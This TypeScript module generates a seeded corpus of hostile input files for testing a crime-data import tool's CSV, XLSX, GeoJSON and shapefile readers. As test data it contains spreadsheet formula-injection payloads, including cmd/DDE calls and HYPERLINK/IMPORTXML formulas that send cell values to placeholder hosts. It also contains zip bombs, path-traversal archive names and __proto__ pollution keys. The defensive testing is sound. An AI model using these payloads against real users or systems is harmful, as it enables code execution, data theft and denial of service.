/**
 * A generated corpus of malformed and hostile input files (issue 14 item 5): CSV, XLSX and GeoJSON
 * record extracts and GeoJSON and zipped-shapefile boundary files. Everything is made here from a
 * seed, nothing is checked in. Each entry says what must happen: 'refused' (a one-line reason, the
 * project untouched), 'imports' (read; bad rows rejected or warned, never a crash) or 'either'.
 */
import { deflateRawSync } from 'node:zlib';

export interface HostileFile {
  name: string;
  target: 'records' | 'boundaries';
  fileName: string;
  bytes: Buffer;
  expect: 'refused' | 'imports' | 'either';
  /** For 'refused': a pattern the reason must match. */
  reason?: RegExp;
}

/** mulberry32: the same corpus on every run. */
export function seeded(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

// ---------------------------------------------------------------- zip writing (APPNOTE 6.3)

export interface ZipPart {
  name: string;
  data: Buffer;
  /** Deflate (default) or store. */
  store?: boolean;
  /** Declared uncompressed size in the central directory (a lying zip); default the truth. */
  declaredSize?: number;
}

function crc32(data: Buffer): number {
  let crc = ~0;
  for (let i = 0; i < data.length; i++) {
    crc ^= data[i]!;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

export function zip(parts: ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name, 'utf8');
    const packed = part.store ? part.data : deflateRawSync(part.data);
    const crc = part.data.length > 4_000_000 ? 0 : crc32(part.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(part.store ? 0 : 8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(part.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(part.store ? 0 : 8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(part.declaredSize ?? part.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

// ---------------------------------------------------------------- shapefile bytes

/** A polygon shapefile (.shp) of one square per feature, and its .dbf with a CODE field. */
export function shapefile(squares: number): { shp: Buffer; dbf: Buffer } {
  const records: Buffer[] = [];
  for (let i = 0; i < squares; i++) {
    const x = 400_000 + i * 100;
    const ring: [number, number][] = [
      [x, 400_000],
      [x, 400_100],
      [x + 100, 400_100],
      [x + 100, 400_000],
      [x, 400_000],
    ];
    const content = Buffer.alloc(48 + 16 * ring.length);
    content.writeInt32LE(5, 0);
    for (const [k, v] of [x, 400_000, x + 100, 400_100].entries()) content.writeDoubleLE(v, 4 + 8 * k);
    content.writeInt32LE(1, 36);
    content.writeInt32LE(ring.length, 40);
    ring.forEach(([px, py], k) => {
      content.writeDoubleLE(px, 48 + 16 * k);
      content.writeDoubleLE(py, 56 + 16 * k);
    });
    const header = Buffer.alloc(8);
    header.writeInt32BE(i + 1, 0);
    header.writeInt32BE(content.length / 2, 4);
    records.push(header, content);
  }
  const body = Buffer.concat(records);
  const head = Buffer.alloc(100);
  head.writeInt32BE(9994, 0);
  head.writeInt32BE((100 + body.length) / 2, 24);
  head.writeInt32LE(1000, 28);
  head.writeInt32LE(5, 32);
  const dbfHead = Buffer.alloc(32 + 32 + 1);
  dbfHead[0] = 3;
  dbfHead.writeUInt32LE(squares, 4);
  dbfHead.writeUInt16LE(65, 8);
  dbfHead.writeUInt16LE(11, 10);
  dbfHead.write('CODE', 32, 'latin1');
  dbfHead[32 + 11] = 'C'.charCodeAt(0);
  dbfHead[32 + 16] = 10;
  dbfHead[64] = 0x0d;
  const rows = Array.from({ length: squares }, (_, i) =>
    Buffer.from(` A${String(i).padStart(9, '0')}`, 'latin1'),
  );
  return { shp: Buffer.concat([head, body]), dbf: Buffer.concat([dbfHead, ...rows, Buffer.from([0x1a])]) };
}

// ---------------------------------------------------------------- the corpus

const HEADER = 'Crime Reference,Offence Category,Committed Date,Easting,Northing,Location';

function csvRow(i: number, category = 'Burglary', location = 'On or near Oak Drive'): string {
  return `AS/${i}/24,${category},0${1 + (i % 9)}/03/2024,${373_000 + i},${455_000 + i},${location}`;
}

function goodCsv(rows = 5): string {
  return [HEADER, ...Array.from({ length: rows }, (_, i) => csvRow(i))].join('\n');
}

function deepJson(depth: number, open: string, close: string, inner = '0'): string {
  return `${open.repeat(depth)}${inner}${close.repeat(depth)}`;
}

function featureCollection(features: unknown[]): string {
  return JSON.stringify({ type: 'FeatureCollection', features });
}

function squareFeature(i: number, props: Record<string, unknown> = { code: `E${i}` }): unknown {
  const x = -1.5 + i * 0.001;
  return {
    type: 'Feature',
    properties: props,
    geometry: {
      type: 'Polygon',
      coordinates: [
        [
          [x, 53.8],
          [x + 0.001, 53.8],
          [x + 0.001, 53.801],
          [x, 53.801],
          [x, 53.8],
        ],
      ],
    },
  };
}

function pointFeature(i: number, props: Record<string, unknown>): unknown {
  return {
    type: 'Feature',
    properties: props,
    geometry: { type: 'Point', coordinates: [-1.5 + i * 0.001, 53.8] },
  };
}

export async function makeHostileCorpus(): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const random = seeded(14);
  const add = (f: HostileFile) => files.push(f);
  const csv = (name: string, bytes: Buffer | string, expect: HostileFile['expect'], reason?: RegExp) =>
    add({
      name,
      target: 'records',
      fileName: `${name.replace(/[^a-z0-9]+/gi, '-')}.csv`,
      bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'utf8'),
      expect,
      ...(reason ? { reason } : {}),
    });

  // Empty, BOM-only and whitespace files.
  csv('empty file', '', 'refused', /empty/);
  csv('UTF-8 BOM only', Buffer.from([0xef, 0xbb, 0xbf]), 'refused', /empty/);
  csv('UTF-16 BOM only', Buffer.from([0xff, 0xfe]), 'refused', /empty/);
  for (const [label, text] of [
    ['spaces', '     '],
    ['newlines', '\n\n\n\n'],
    ['CRs', '\r\r\r'],
    ['tabs', '\t\t\t'],
  ] as const)
    csv(`whitespace only: ${label}`, text, 'refused');
  csv('header only', HEADER, 'refused');
  csv('header and blank lines', `${HEADER}\n\n\n`, 'refused');

  // Byte-order marks and encodings.
  csv('UTF-8 BOM', `\uFEFF${goodCsv()}`, 'imports');
  csv('two UTF-8 BOMs', `\uFEFF\uFEFF${goodCsv()}`, 'either');
  csv('BOM in the middle', `${HEADER}\n\uFEFF${csvRow(1)}\n${csvRow(2)}`, 'imports');
  csv(
    'UTF-16LE with BOM',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(goodCsv(), 'utf16le')]),
    'imports',
  );
  const be = Buffer.from(goodCsv(), 'utf16le');
  be.swap16();
  csv('UTF-16BE with BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), be]), 'imports');
  csv('UTF-16LE without BOM', Buffer.from(goodCsv(), 'utf16le'), 'refused');
  csv(
    'UTF-16 BOM on odd-length body',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('abc')]),
    'either',
  );
  csv(
    'UTF-32LE BOM',
    Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(goodCsv(), 'utf16le')]),
    'either',
  );
  csv(
    'Windows-1252 and UTF-8 mixed',
    Buffer.concat([
      Buffer.from(`${HEADER}\n${csvRow(1, 'Caf\u00e9 theft')}\n`, 'utf8'),
      Buffer.from(`${csvRow(2, 'Caf\u00e9 theft')}\n`, 'latin1'),
    ]),
    'imports',
  );
  for (const [label, bytes] of [
    ['lone continuation byte', [0x80]],
    ['overlong slash', [0xc0, 0xaf]],
    ['surrogate half', [0xed, 0xa0, 0x80]],
    ['truncated 4-byte', [0xf0, 0x9f, 0x98]],
    ['beyond U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['0xFF byte', [0xff]],
  ] as const) {
    csv(
      `invalid UTF-8: ${label}`,
      Buffer.concat([
        Buffer.from(`${HEADER}\n${csvRow(1)}\nAS/2/24,Burg`),
        Buffer.from(bytes),
        Buffer.from('lary,01/03/2024,373001,455001,X\n'),
      ]),
      'imports',
    );
  }
  csv(
    'emoji and RTL marks',
    `${HEADER}\n${csvRow(1, 'Theft \u{1F4A5} \u202Eesrever')}\n${csvRow(2)}`,
    'imports',
  );

  // NUL bytes.
  csv('NUL in a cell', `${HEADER}\n${csvRow(1, 'Burg\0lary')}\n${csvRow(2)}`, 'either');
  csv(
    'NUL in the header',
    `Crime\0Reference,Offence Category,Committed Date,Easting,Northing\n${csvRow(1)}`,
    'either',
  );
  csv('all NUL bytes', Buffer.alloc(4096), 'refused');
  csv('NUL every other byte (UTF-16 without BOM)', Buffer.from(goodCsv(), 'utf16le'), 'refused');
  csv('NUL after the header', `${HEADER}\n${'\0'.repeat(1000)}`, 'either');

  // Binary files and archives wearing a .csv name.
  for (const [label, magic] of [
    ['PNG', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]],
    ['JPEG', [0xff, 0xd8, 0xff, 0xe0]],
    ['PDF', [0x25, 0x50, 0x44, 0x46, 0x2d]],
    ['gzip', [0x1f, 0x8b, 0x08]],
    ['SQLite', [...Buffer.from('SQLite format 3\0')]],
    ['old Excel', [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]],
    ['ELF executable', [0x7f, 0x45, 0x4c, 0x46]],
    ['Windows executable', [0x4d, 0x5a, 0x90, 0x00]],
  ] as const) {
    const body = Buffer.alloc(2048);
    for (let i = 0; i < body.length; i++) body[i] = Math.floor(random() * 256);
    csv(`${label} wearing .csv`, Buffer.concat([Buffer.from(magic), body]), 'refused');
  }
  csv('zip wearing .csv', zip([{ name: 'a.csv', data: Buffer.from(goodCsv()) }]), 'refused');
  for (let k = 0; k < 6; k++) {
    const noise = Buffer.alloc(1024 * (k + 1));
    for (let i = 0; i < noise.length; i++) noise[i] = Math.floor(random() * 256);
    csv(`random bytes ${k + 1}`, noise, 'refused');
  }

  // Very long lines, cells and rows; many columns.
  csv('one line of 3 MB, no newline', 'x'.repeat(3_000_000), 'either');
  csv('header of 2 MB', `${'h'.repeat(2_000_000)}\n1`, 'refused');
  csv(
    'cell over the field limit',
    `${HEADER}\nA1,${'B'.repeat(1_200_000)},01/03/2024,373000,455000,X`,
    'refused',
    /longer than/,
  );
  csv(
    'quoted cell over the field limit',
    `${HEADER}\nA1,"${'B'.repeat(1_200_000)}",01/03/2024,373000,455000,X`,
    'refused',
    /longer than/,
  );
  csv(
    'unterminated quote to end of file',
    `${HEADER}\nA1,"Burglary,01/03/2024,373000,455000,X\n${csvRow(2)}\n`,
    'refused',
  );
  csv('unterminated quote over 16 MB', `${HEADER}\nA1,"${'y,'.repeat(8_500_000)}`, 'refused');
  csv(
    'cell of 900 kB (under the limit)',
    `${HEADER}\n${csvRow(1, 'C'.repeat(900_000))}\n${csvRow(2)}`,
    'imports',
  );
  csv(
    'location of 500 kB',
    `${HEADER}\n${csvRow(1, 'Burglary', `On or near ${'z'.repeat(500_000)}`)}\n${csvRow(2)}`,
    'imports',
  );
  csv(
    '20,000 columns',
    `${Array.from({ length: 20_000 }, (_, i) => `c${i}`).join(',')}\n1`,
    'refused',
    /columns/,
  );
  csv(
    '10,001 columns',
    `${Array.from({ length: 10_001 }, (_, i) => `c${i}`).join(',')}\n1`,
    'refused',
    /columns/,
  );
  csv('row with 50,000 cells', `${HEADER}\n${csvRow(1)}${',x'.repeat(50_000)}\n${csvRow(2)}`, 'either');
  csv('100,000 empty lines then a row', `${HEADER}\n${'\n'.repeat(100_000)}${csvRow(1)}`, 'imports');
  csv('200,000 one-cell rows', `${HEADER}\n${'x\n'.repeat(200_000)}`, 'either');
  csv('duplicate headers', `A,A,A,Easting,Northing\n1,2,3,373000,455000`, 'either');
  csv('empty headers', `,,,,\n1,2,3,373000,455000`, 'either');
  csv('header of quotes', `"""","""""",x\n1,2,3`, 'either');
  csv(
    '__proto__ and constructor headers',
    `__proto__,constructor,prototype,Easting,Northing\n1,2,3,373000,455000\n4,5,6,373001,455001`,
    'either',
  );

  // Line endings and control characters.
  csv('CR-only line endings', goodCsv().replace(/\n/g, '\r'), 'imports');
  csv('mixed line endings', `${HEADER}\r\n${csvRow(1)}\n${csvRow(2)}\r${csvRow(3)}\r\n`, 'imports');
  csv('vertical tabs and form feeds', `${HEADER}\n${csvRow(1, 'Burg\vlary\f')}\n${csvRow(2)}`, 'imports');
  csv('escape sequences', `${HEADER}\n${csvRow(1, '\u001b[31mred\u001b[0m')}\n${csvRow(2)}`, 'imports');
  csv('semicolon delimiter', goodCsv().replace(/,/g, ';'), 'imports');
  csv('tab delimiter', goodCsv().replace(/,/g, '\t'), 'imports');
  csv('pipe delimiter', goodCsv().replace(/,/g, '|'), 'imports');

  // Spreadsheet formulas: kept as text, never evaluated (imported with a warning).
  const formulas = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://x.invalid/?v=", A1), "//a")',
    '=WEBSERVICE("http://x.invalid")',
  ];
  formulas.forEach((formula, i) => {
    const quoted = `"${formula.replace(/"/g, '""')}"`;
    csv(`formula in category ${i + 1}`, `${HEADER}\n${csvRow(1, quoted)}\n${csvRow(2)}`, 'imports');
    csv(
      `formula in location ${i + 1}`,
      `${HEADER}\n${csvRow(1, 'Burglary', quoted)}\n${csvRow(2)}`,
      'imports',
    );
  });

  // Values the validator must refuse row by row, never crash on.
  for (const [label, east, north] of [
    ['coordinates 1e308', '1e308', '1e308'],
    ['coordinates NaN', 'NaN', 'NaN'],
    ['coordinates Infinity', 'Infinity', '-Infinity'],
    ['coordinates hex', '0x5B2F8', '0x6F1A4'],
    ['coordinates negative zero', '-0', '-0'],
    ['coordinates 400 digits', '9'.repeat(400), '9'.repeat(400)],
    ['coordinates with thousands commas', '"373,000"', '"455,000"'],
  ] as const) {
    csv(
      label,
      `${HEADER}\nA1,Burglary,01/03/2024,${east},${north},X\nA2,Burglary,01/03/2024,${east},${north},X`,
      'either',
    );
  }
  for (const [label, date] of [
    ['year 99999', '01/01/99999'],
    ['zero date', '00/00/0000'],
    ['31 February', '31/02/2024'],
    ['date of 10,000 digits', '1'.repeat(10_000)],
    ['date with NUL', '01/03/\u00002024'],
    ['negative year', '01/03/-2024'],
    ['ISO with offset', '2024-03-01T10:00:00+14:00'],
  ] as const) {
    csv(
      `date: ${label}`,
      `${HEADER}\nA1,Burglary,${date},373000,455000,X\nA2,Burglary,${date},373001,455001,X`,
      'either',
    );
  }

  // GeoJSON record extracts.
  const geo = (name: string, text: string, expect: HostileFile['expect']) =>
    add({
      name: `GeoJSON records: ${name}`,
      target: 'records',
      fileName: `${name.replace(/[^a-z0-9]+/gi, '-')}.geojson`,
      bytes: Buffer.from(text, 'utf8'),
      expect,
    });
  geo('not JSON', '{"type": "FeatureCollection", "features": [', 'refused');
  geo('deep arrays (100,000)', deepJson(100_000, '[', ']'), 'refused');
  geo(
    'deep properties (5,000)',
    `{"type":"FeatureCollection","features":[{"type":"Feature","properties":${deepJson(5_000, '{"a":', '}')},"geometry":{"type":"Point","coordinates":[-1.5,53.8]}}]}`,
    'either',
  );
  geo('a bare number', '42', 'refused');
  geo('null', 'null', 'refused');
  geo('features is null', '{"type":"FeatureCollection","features":null}', 'refused');
  geo('no features', '{"type":"FeatureCollection","features":[]}', 'refused');
  geo('features of numbers', '{"type":"FeatureCollection","features":[1,2,3]}', 'refused');
  geo(
    '__proto__ property',
    featureCollection([pointFeature(0, JSON.parse('{"__proto__":{"polluted":1},"Category":"Burglary"}'))]),
    'either',
  );
  geo('polygon features', featureCollection([squareFeature(0), squareFeature(1)]), 'refused');
  geo(
    'point with 3 MB of coordinates',
    featureCollection([
      { type: 'Feature', properties: {}, geometry: { type: 'Point', coordinates: Array(300_000).fill(1.5) } },
    ]),
    'either',
  );
  geo(
    'points with NaN text',
    '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":["NaN","x"]}}]}',
    'either',
  );
  geo(
    '10,000 properties',
    featureCollection([
      pointFeature(0, Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`p${i}`, i]))),
    ]),
    'refused',
  );
  geo(
    'BOM then JSON',
    `\uFEFF${featureCollection([pointFeature(0, { Category: 'Burglary', Date: '01/03/2024' }), pointFeature(1, { Category: 'Burglary', Date: '02/03/2024' })])}`,
    'either',
  );
  geo(
    'string of 2 MB',
    JSON.stringify({
      type: 'FeatureCollection',
      features: [pointFeature(0, { note: 'n'.repeat(2_000_000) })],
    }),
    'either',
  );

  // XLSX workbooks.
  const xlsx = (name: string, bytes: Buffer, expect: HostileFile['expect'], reason?: RegExp) =>
    add({
      name: `XLSX: ${name}`,
      target: 'records',
      fileName: `${name.replace(/[^a-z0-9]+/gi, '-')}.xlsx`,
      bytes,
      expect,
      ...(reason ? { reason } : {}),
    });
  xlsx('not a zip', Buffer.from(goodCsv()), 'refused');
  xlsx('empty zip', zip([]), 'refused');
  xlsx(
    'truncated zip',
    zip([{ name: '[Content_Types].xml', data: Buffer.from('<x/>'.repeat(1000)) }]).subarray(0, 200),
    'refused',
  );
  xlsx('zip of a CSV', zip([{ name: 'data.csv', data: Buffer.from(goodCsv()) }]), 'refused');
  xlsx(
    'sheet part declaring 3 GB unpacked',
    zip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<worksheet/>'), declaredSize: 3_000_000_000 },
    ]),
    'refused',
    /unpacks/,
  );
  xlsx(
    'parts declaring 1.5 GB in all',
    zip(
      Array.from({ length: 6 }, (_, i) => ({
        name: `xl/worksheets/sheet${i + 1}.xml`,
        data: Buffer.alloc(2_000_000, 0x20),
        declaredSize: 250_000_000,
      })),
    ),
    'refused',
    /unpacks/,
  );
  xlsx(
    'zip bomb sheet (40 MB of zeros)',
    zip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(40_000_000) },
    ]),
    'refused',
    /zip bomb/,
  );
  xlsx(
    'zip64 marker size',
    zip([{ name: 'xl/workbook.xml', data: Buffer.from('<w/>'), declaredSize: 0xffffffff }]),
    'refused',
    /unpacks/,
  );
  xlsx(
    'garbage XML parts',
    zip([
      { name: '[Content_Types].xml', data: Buffer.from('<<<not xml') },
      { name: 'xl/workbook.xml', data: Buffer.from('&&&') },
    ]),
    'refused',
  );
  const { default: Excel } = await import('exceljs');
  const book = async (fill: (ws: import('exceljs').Worksheet) => void): Promise<Buffer> => {
    const wb = new Excel.Workbook();
    fill(wb.addWorksheet('Data'));
    return Buffer.from(await wb.xlsx.writeBuffer());
  };
  xlsx(
    'formulas with cached results',
    await book((ws) => {
      ws.addRow(HEADER.split(','));
      ws.addRow([
        'A1',
        { formula: 'CONCAT("Burg","lary")', result: 'Burglary' },
        '01/03/2024',
        373000,
        455000,
        'X',
      ]);
      ws.addRow(['A2', "=cmd|' /C calc'!A0", '02/03/2024', 373001, 455001, 'X']);
    }),
    'imports',
  );
  xlsx('header only', await book((ws) => ws.addRow(HEADER.split(','))), 'refused');
  xlsx('empty sheet', await book(() => {}), 'refused');
  xlsx(
    'cell over the field limit',
    await book((ws) => {
      ws.addRow(HEADER.split(','));
      ws.addRow(['A1', 'B'.repeat(1_100_000), '01/03/2024', 373000, 455000, 'X']);
    }),
    'refused',
    /longer than/,
  );
  xlsx(
    'NUL and control characters',
    await book((ws) => {
      ws.addRow(HEADER.split(','));
      ws.addRow(['A1', 'Burg\u0001lary', '01/03/2024', 373000, 455000, 'X']);
      ws.addRow(['A2', 'Burglary', '02/03/2024', 373001, 455001, 'X']);
    }),
    'either',
  );

  // Boundary files: GeoJSON.
  const boundary = (
    name: string,
    fileName: string,
    bytes: Buffer | string,
    expect: HostileFile['expect'],
    reason?: RegExp,
  ) =>
    add({
      name: `boundaries: ${name}`,
      target: 'boundaries',
      fileName,
      bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'utf8'),
      expect,
      ...(reason ? { reason } : {}),
    });
  boundary('not JSON', 'a.geojson', '{"type":', 'refused');
  boundary('deep arrays (100,000)', 'b.geojson', deepJson(100_000, '[', ']'), 'refused');
  boundary('deep objects (100,000)', 'c.geojson', deepJson(100_000, '{"a":', '}'), 'refused');
  boundary(
    'deep coordinates (10,000)',
    'd.geojson',
    `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"X"},"geometry":{"type":"Polygon","coordinates":${deepJson(10_000, '[', ']')}}}]}`,
    'refused',
  );
  boundary('only points', 'e.geojson', featureCollection([pointFeature(0, { code: 'A' })]), 'refused');
  boundary('no features', 'f.geojson', featureCollection([]), 'refused');
  boundary('features null', 'g.geojson', '{"type":"FeatureCollection","features":null}', 'refused');
  boundary(
    'coordinates as strings',
    'h.geojson',
    featureCollection([
      {
        type: 'Feature',
        properties: { code: 'A' },
        geometry: {
          type: 'Polygon',
          coordinates: [
            [
              ['a', 'b'],
              ['c', 'd'],
              ['e', 'f'],
              ['a', 'b'],
            ],
          ],
        },
      },
    ]),
    'refused',
  );
  boundary(
    'NaN coordinates',
    'i.geojson',
    featureCollection([
      {
        type: 'Feature',
        properties: { code: 'A' },
        geometry: {
          type: 'Polygon',
          coordinates: [
            [
              [null, null],
              [1, 1],
              [2, 2],
              [null, null],
            ],
          ],
        },
      },
    ]),
    'refused',
  );
  boundary(
    'ring of 2 points',
    'j.geojson',
    featureCollection([
      {
        type: 'Feature',
        properties: { code: 'A' },
        geometry: {
          type: 'Polygon',
          coordinates: [
            [
              [0, 0],
              [0, 0],
            ],
          ],
        },
      },
    ]),
    'refused',
  );
  boundary(
    'empty rings',
    'k.geojson',
    featureCollection([
      { type: 'Feature', properties: { code: 'A' }, geometry: { type: 'Polygon', coordinates: [] } },
    ]),
    'refused',
  );
  boundary(
    '__proto__ properties',
    'l.geojson',
    featureCollection([
      squareFeature(0, JSON.parse('{"__proto__":{"x":1},"code":"A"}')),
      squareFeature(1, { code: 'B' }),
    ]),
    'either',
  );
  boundary(
    'unknown CRS',
    'm.geojson',
    JSON.stringify({
      type: 'FeatureCollection',
      crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::99999' } },
      features: [squareFeature(0)],
    }),
    'refused',
    /CRS/,
  );
  boundary(
    'coordinates 1e308',
    'n.geojson',
    featureCollection([
      {
        type: 'Feature',
        properties: { code: 'A' },
        geometry: {
          type: 'Polygon',
          coordinates: [
            [
              [1e308, 1e308],
              [-1e308, 1e308],
              [-1e308, -1e308],
              [1e308, 1e308],
            ],
          ],
        },
      },
    ]),
    'either',
  );
  boundary(
    'code of 1 MB',
    'o.geojson',
    featureCollection([squareFeature(0, { code: 'c'.repeat(1_000_000) })]),
    'either',
  );
  boundary('binary bytes', 'p.geojson', Buffer.from([0x00, 0x01, 0xff, 0xfe, 0x89, 0x50]), 'refused');
  boundary(
    'UTF-16 GeoJSON',
    'q.geojson',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(featureCollection([squareFeature(0)]), 'utf16le')]),
    'refused',
  );
  boundary('empty file', 'r.geojson', '', 'refused');

  // Boundary files: zipped shapefiles.
  const { shp, dbf } = shapefile(3);
  for (const count of [2, 3, 5, 12, 60]) {
    const parts: ZipPart[] = [];
    for (let i = 0; i < count; i++)
      parts.push({ name: `layer${i}.shp`, data: shp }, { name: `layer${i}.dbf`, data: dbf });
    boundary(
      `${count} shapefiles in one zip`,
      `many-${count}.zip`,
      zip(parts),
      'refused',
      /holds \d+ shapefiles \(layer0\.shp, layer1\.shp/,
    );
  }
  boundary(
    'shapefiles in folders',
    'folders.zip',
    zip([
      { name: 'a/wards.shp', data: shp },
      { name: 'b/wards.shp', data: shp },
    ]),
    'refused',
    /a\/wards\.shp, b\/wards\.shp/,
  );
  boundary(
    'zip bomb .shp (60 MB of zeros)',
    'bomb.zip',
    zip([{ name: 'bomb.shp', data: Buffer.alloc(60_000_000) }]),
    'refused',
    /zip bomb/,
  );
  boundary(
    'zip bomb .dbf (60 MB of zeros)',
    'bomb-dbf.zip',
    zip([
      { name: 'x.shp', data: shp },
      { name: 'x.dbf', data: Buffer.alloc(60_000_000) },
    ]),
    'refused',
    /zip bomb/,
  );
  boundary(
    'zip without a .shp',
    'noshp.zip',
    zip([
      { name: 'x.dbf', data: dbf },
      { name: 'readme.txt', data: Buffer.from('hi') },
    ]),
    'refused',
    /no \.shp/,
  );
  boundary('empty zip', 'empty.zip', zip([]), 'refused');
  boundary('truncated zip', 'trunc.zip', zip([{ name: 'x.shp', data: shp }]).subarray(0, 40), 'refused');
  boundary(
    'garbage .shp',
    'garbage.zip',
    zip([{ name: 'x.shp', data: Buffer.from('not a shapefile at all, not even close') }]),
    'refused',
  );
  boundary('.shp header only', 'header.zip', zip([{ name: 'x.shp', data: shp.subarray(0, 100) }]), 'either');
  boundary('.shp cut mid-record', 'cut.zip', zip([{ name: 'x.shp', data: shp.subarray(0, 180) }]), 'either');
  boundary(
    'path traversal names',
    'traversal.zip',
    zip([
      { name: '../../../etc/evil.shp', data: shp },
      { name: '../../../etc/evil.dbf', data: dbf },
    ]),
    'either',
  );
  boundary('absolute path names', 'absolute.zip', zip([{ name: '/tmp/evil.shp', data: shp }]), 'either');
  boundary(
    '.prj of garbage',
    'prj.zip',
    zip([
      { name: 'x.shp', data: shp },
      { name: 'x.dbf', data: dbf },
      { name: 'x.prj', data: Buffer.from('GARBAGE[') },
    ]),
    'refused',
    /CRS/,
  );
  boundary(
    '.cpg naming no encoding',
    'cpg.zip',
    zip([
      { name: 'x.shp', data: shp },
      { name: 'x.dbf', data: dbf },
      { name: 'x.cpg', data: Buffer.from('klingon-9') },
    ]),
    'either',
  );
  boundary(
    'dbf with a huge record count',
    'dbfcount.zip',
    zip([
      { name: 'x.shp', data: shp },
      {
        name: 'x.dbf',
        data: Buffer.concat([dbf.subarray(0, 4), Buffer.from([0xff, 0xff, 0xff, 0x7f]), dbf.subarray(8)]),
      },
    ]),
    'either',
  );
  boundary(
    'shp declaring a huge part count',
    'parts.zip',
    zip([
      {
        name: 'x.shp',
        data: (() => {
          const b = Buffer.from(shp);
          b.writeInt32LE(0x7fffffff, 100 + 8 + 36);
          return b;
        })(),
      },
    ]),
    'either',
  );
  boundary(
    'stored (uncompressed) entries',
    'stored.zip',
    zip([
      { name: 'x.shp', data: shp, store: true },
      { name: 'x.dbf', data: dbf, store: true },
    ]),
    'either',
  );

  // Seeded mutations of a good extract: bytes flipped, cut, repeated, quotes and delimiters inserted.
  const good = Buffer.from(goodCsv(20));
  for (let k = 0; k < 40; k++) {
    const bytes = [...good];
    for (let edits = 1 + Math.floor(random() * 8); edits > 0; edits--) {
      const at = Math.floor(random() * bytes.length);
      const op = Math.floor(random() * 5);
      if (op === 0) bytes[at] = Math.floor(random() * 256);
      else if (op === 1) bytes.splice(at, Math.floor(random() * 40));
      else if (op === 2) bytes.splice(at, 0, ...bytes.slice(at, at + Math.floor(random() * 200)));
      else if (op === 3) bytes.splice(at, 0, 0x22);
      else bytes.splice(at, 0, [0x2c, 0x0a, 0x0d, 0x00, 0x3b][Math.floor(random() * 5)]!);
    }
    csv(`mutated extract ${k + 1}`, Buffer.from(bytes), 'either');
  }
  return files;
}
